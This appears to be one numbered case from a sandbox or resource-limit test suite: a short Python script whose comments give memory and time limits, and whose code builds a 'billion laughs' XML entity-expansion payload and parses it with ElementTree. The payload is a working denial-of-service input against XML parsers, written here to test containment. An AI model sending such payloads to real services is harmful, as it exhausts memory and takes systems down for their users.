# tries: XML entities that expand to a billion words
# attack: 52
# limits: memory_bytes 134_217_728, wall_ms 2_000
# ends: exception or MemoryLimit or WallLimit or succeeded
import xml.etree.ElementTree as tree
lol = ''.join(f'<!ENTITY l{i} "{(f"&l{i - 1};" * 10) if i else "lol"}">' for i in range(10))
tree.fromstring(f'<!DOCTYPE l [{lol}]><l>&l9;</l>')
